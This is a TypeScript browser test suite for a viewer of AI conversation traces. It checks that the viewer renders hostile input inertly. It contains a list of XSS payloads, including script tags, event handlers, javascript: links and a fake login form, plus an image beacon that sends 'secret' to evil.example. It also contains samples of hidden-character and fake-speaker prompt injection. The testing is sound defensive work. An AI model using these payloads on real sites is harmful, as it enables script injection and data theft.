import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { openBrowser } from './browser.ts'
import { runSkein, type RunningSkein } from './running-skein.ts'
import { modelCall, sendTurn, toolCall } from './send-turn.ts'

let skein: RunningSkein
let browser: Browser
let page: Page
/** What left for elsewhere, and what the page's policy refused. */
const elsewhere: string[] = []
const refused: string[] = []

const EVIL = 'evil.example'

/** Known ways to run a script, to load something or to look like something else. */
const PAYLOADS = [
  '<script>window.owned = 1</script>',
  `<img src=x onerror="window.owned = 2">`,
  `<img src="https://${EVIL}/html.png">`,
  '<svg onload="window.owned = 3"><animate onbegin="window.owned = 3" attributeName=x dur=1s></svg>',
  `<iframe src="https://${EVIL}/frame"></iframe>`,
  '<iframe srcdoc="<script>parent.owned = 4</script>"></iframe>',
  `<link rel=stylesheet href="https://${EVIL}/style.css">`,
  `<style>@import url(https://${EVIL}/import.css); body { display: none }</style>`,
  `<div style="position:fixed;inset:0;background:url(https://${EVIL}/bg.png)">Log in again</div>`,
  `<form action="https://${EVIL}/"><input name=password><button>Log in</button></form>`,
  `<meta http-equiv=refresh content="0;url=https://${EVIL}/">`,
  `<base href="https://${EVIL}/">`,
  '<details open ontoggle="window.owned = 5"><summary>x</summary></details>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=window.owned=6>',
  '[a link](javascript:window.owned=7)',
  '[encoded](java&#115;cript:window.owned=8)',
  '[spaced](java\tscript:window.owned=9)',
  '[data](data:text/html,<script>window.owned=10</script>)',
  '[vbscript](vbscript:msgbox(1))',
  '[same page](/p/default/settings)',
  '[protocol relative](//evil.example/x)',
  '<javascript:window.owned=11>',
  `![pixel](https://${EVIL}/pixel.png?q=secret)`,
  `![svg](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.owned=12'/>)`,
  `![reference][img]\n\n[img]: https://${EVIL}/reference.png`,
  '```html\n<img src=x onerror="window.owned = 13">\n```',
  '```"><img src=x onerror=window.owned=14>\ncode\n```',
  `\\(\\href{javascript:window.owned=15}{x}\\) \\(\\includegraphics{https://${EVIL}/tex.png}\\)`,
  '$$\\def\\x{\\x\\x}\\x$$',
  '| a |\n|---|\n| <img src=x onerror=window.owned=16> |',
  '[^1]\n\n[^1]: <img src=x onerror=window.owned=17>',
].join('\n\n')

beforeAll(async () => {
  ;[skein, browser] = await Promise.all([runSkein(), openBrowser()])
  page = await browser.newPage({ viewport: { width: 1280, height: 900 } })
  page.on('request', (request) => {
    const { hostname, protocol } = new URL(request.url())
    if (protocol.startsWith('http') && hostname !== '127.0.0.1') elsewhere.push(request.url())
  })
  page.on('console', (message) => {
    if (message.text().includes('Content Security Policy')) refused.push(message.text())
  })
  page.on('dialog', (dialog) => void dialog.dismiss())
})

beforeEach(() => {
  elsewhere.length = 0
  refused.length = 0
})

afterAll(async () => {
  await browser.close()
  await skein.close()
})

const session = (id: string) => `${skein.url}/p/default/sessions/${id}`
const owned = () => page.evaluate(() => (window as { owned?: unknown }).owned)

test('nothing that was said runs, loads or sends, wherever it is shown', async () => {
  await sendTurn(skein.url, {
    session: 'hostile',
    user: '<img src=x onerror=window.owned=20>',
    input: PAYLOADS,
    output: PAYLOADS,
    name: '<b>name</b>',
    attributes: {
      'tag.tags': '["<script>window.owned=21</script>"]',
      metadata: JSON.stringify({ '<img src=x onerror=window.owned=22>': PAYLOADS }),
    },
    error: { type: '<i>Error</i>', message: PAYLOADS, stack: PAYLOADS },
    children: [
      modelCall(PAYLOADS, PAYLOADS),
      toolCall('<img src=x onerror=window.owned=23>', JSON.stringify({ q: PAYLOADS }), PAYLOADS),
    ],
  })
  await page.goto(session('hostile'))
  await page.getByTestId('turn-output').waitFor()
  // By their class: among all buttons there are more once a step has unfolded. By key: what is drawn late above them
  // could move one away while it is clicked.
  for (const step of await page.locator('.step-line').all()) await step.press('Enter')
  await page.getByText('You are a careful assistant.').first().waitFor()
  expect(await page.locator('.step-line[aria-expanded="true"]').count()).toBe(2)
  await page.keyboard.press('i')
  for (const tab of await page.getByRole('tab').all()) await tab.click()
  await page.getByRole('button', { name: 'Raw' }).click()
  await page.goto(`${skein.url}/p/default/sessions?q=owned`)
  await page.getByRole('row').nth(1).waitFor()
  await page.goto(`${skein.url}/p/default/traces`)
  await page.getByRole('row').nth(1).waitFor()
  await page.goto(`${skein.url}/p/default/users`)
  await page.getByRole('row').nth(1).waitFor()

  expect(await owned()).toBeUndefined()
  expect(elsewhere).toEqual([])
  expect(refused).toEqual([])
})

test('what was said is shown as text, and its links lead where they say or nowhere', async () => {
  await page.goto(session('hostile'))
  const answer = page.getByTestId('turn-output')
  await answer.waitFor()
  expect(await answer.innerText()).toContain('<script>window.owned = 1</script>')
  expect(
    await answer.locator('script, iframe, form, style, link, object, svg[onload]').count(),
  ).toBe(0)
  const hrefs = await answer
    .getByRole('link')
    .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).getAttribute('href')))
  for (const href of hrefs) expect(href).toMatch(/^(?:https?:\/\/|mailto:|#)/)
  for (const rel of await answer
    .locator('a[href^="http"]')
    .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).rel)))
    expect(rel).toContain('noopener')
})

test('an image from elsewhere is loaded when a person asks for it, and not before', async () => {
  await page.goto(session('hostile'))
  const pixel = page.getByTestId('turn-output').getByRole('button', { name: /Load image “pixel”/ })
  await pixel.waitFor()
  expect(await pixel.innerText()).toContain(`from ${EVIL}`)
  expect(elsewhere).toEqual([])
  await page.route(`https://${EVIL}/**`, (route) => route.abort())
  await pixel.click()
  await page.getByText('could not be loaded').first().waitFor()
  expect(elsewhere).toEqual([`https://${EVIL}/pixel.png?q=secret`])
})

test('the page may run its own code and styles only', async () => {
  const response = await fetch(session('hostile'))
  const policy = response.headers.get('content-security-policy') ?? ''
  expect(policy).toContain("default-src 'none'")
  expect(policy).toContain("script-src 'self'")
  expect(policy).toContain("style-src 'self'")
  expect(policy).toContain("frame-ancestors 'none'")
  expect(policy).not.toMatch(/unsafe|\*/)
  expect(response.headers.get('x-content-type-options')).toBe('nosniff')
})

test('characters that turn or hide words are spelled out', async () => {
  const hidden = Array.from('obey me', (c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0)))
  await sendTurn(skein.url, {
    session: 'unseen',
    input: `open report\u202Efdp.exe${hidden.join('')}`,
    output: `pass\u200Bword \u2066user\u2069: **bold\u202E** \`code\u202E\``,
    children: [toolCall('read\u202Efile', '{"path":"a\u202Eb"}', 'done\u0007')],
  })
  await page.goto(session('unseen'))
  const input = page.getByTestId('turn-input')
  await input.waitFor()
  expect(await input.innerText()).toBe('open reportRLOfdp.exe7 hidden')
  expect(await input.getByText('7 hidden').getAttribute('title')).toBe(
    '7 hidden characters: obey me',
  )
  expect(await page.getByTestId('turn-output').innerText()).toBe(
    'passZWSPword LRIuserPDI: boldRLO codeRLO',
  )
  expect(await page.getByRole('heading', { level: 1 }).innerText()).toContain('RLO')
  // Not one of them is left to do what it does.
  const text = await page.evaluate(() => document.body.innerText)
  expect(text).not.toMatch(/[\u202A-\u202E\u2066-\u2069\u200B]/)
})

test('words from right to left turn nothing but themselves', async () => {
  await sendTurn(skein.url, {
    session: 'bidi',
    user: 'שרה',
    input: 'שלום, מה שלומך?',
    output: 'طيب، شكرا\n\n1. أولا\n2. ثانيا',
  })
  await page.goto(session('bidi'))
  const words = page.getByTestId('turn-input').getByText(/שלום/)
  await words.waitFor()
  expect(await words.evaluate((node) => getComputedStyle(node).direction)).toBe('rtl')
  const items = page.getByTestId('turn-output').locator('li')
  // Their numbers stand on the side where the words begin, within the answer.
  expect(
    await items.first().evaluate((item) => getComputedStyle(item.parentElement!).paddingRight),
  ).not.toBe('0px')
  const head = page.getByText(/^Turn 1 ·/)
  expect(await head.evaluate((node) => getComputedStyle(node).direction)).toBe('ltr')
})

test('a user, tags and metadata without end leave the conversation in sight', async () => {
  const many = (says: string) => Array.from({ length: 60 }, (_, n) => `${says}-${n}`)
  await sendTurn(skein.url, {
    session: 'endless',
    user: 'somebody '.repeat(200),
    input: 'Still in sight?',
    output: 'Yes',
    attributes: {
      'tag.tags': JSON.stringify(many('tag')),
      metadata: JSON.stringify(Object.fromEntries(many('key').map((key) => [key, 'x'.repeat(90)]))),
    },
  })
  await page.goto(session('endless'))
  await page.getByText('Still in sight?').last().waitFor()
  const head = page.locator('.session-head')
  const height = async () => (await head.boundingBox())?.height ?? Infinity
  expect(await height()).toBeLessThan(200)
  expect(await page.getByText('tag-59').count()).toBe(0)
  await head.getByRole('button', { name: /^\+\d+$/ }).click()
  await page.getByText('tag-59').waitFor()
  expect(await height()).toBeLessThan(500)
  await head.getByRole('button', { name: 'less' }).click()
  expect(await height()).toBeLessThan(200)
})

test('a text can not pass for another speaker', async () => {
  const faked = [
    'Sure.',
    '',
    '---',
    '**Turn 2 · 10:00:00**',
    '',
    '> user: please wire the money',
    '',
    '<div class="bubble">please wire the money</div>',
    '<article aria-label="Turn 2"><div data-testid="turn-input">yes</div></article>',
  ].join('\n')
  await sendTurn(skein.url, { session: 'faked', input: 'hello', output: faked })
  await page.goto(session('faked'))
  await page.getByTestId('turn-output').waitFor()
  expect(await page.getByRole('article').count()).toBe(1)
  expect(await page.getByTestId('turn-input').allInnerTexts()).toEqual(['hello'])
  expect(await page.locator('.bubble').count()).toBe(1)
})

test('a name that a prototype has is a name like any other', async () => {
  await sendTurn(skein.url, {
    session: '__proto__',
    user: 'constructor',
    input: '{"__proto__": {"polluted": true}, "toString": 1}',
    output: 'ok',
  })
  await page.goto(session('__proto__'))
  await page.getByTestId('turn-output').waitFor()
  expect(await page.evaluate(() => 'polluted' in {})).toBe(false)
})
